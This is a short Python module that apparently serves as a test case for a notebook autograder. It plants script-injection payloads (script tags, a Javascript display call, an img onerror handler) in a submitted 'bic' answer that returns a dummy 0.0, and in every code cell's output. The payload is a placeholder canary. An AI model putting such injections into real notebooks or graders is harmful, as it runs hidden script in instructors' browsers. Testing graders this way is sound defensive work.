"""Leaves a script in an output, which runs when an instructor opens the feedback."""

KIND = "notebook"
GAINS = "page"
ANSWERS = {
    "bic": """
from IPython.display import HTML, Javascript, display
display(HTML("<script>TELL_TALE</script>"))
display(Javascript("TELL_TALE"))
display({"text/markdown": "<img src=x onerror=TELL_TALE>"}, raw=True)

def bic(log_likelihood, num_components, dim, num_points):
    display(HTML("<script>TELL_TALE</script>"))
    return 0.0
"""
}


def edit(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            data = {"text/html": "<script>TELL_TALE</script>", "text/plain": "harmless"}
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": data}]
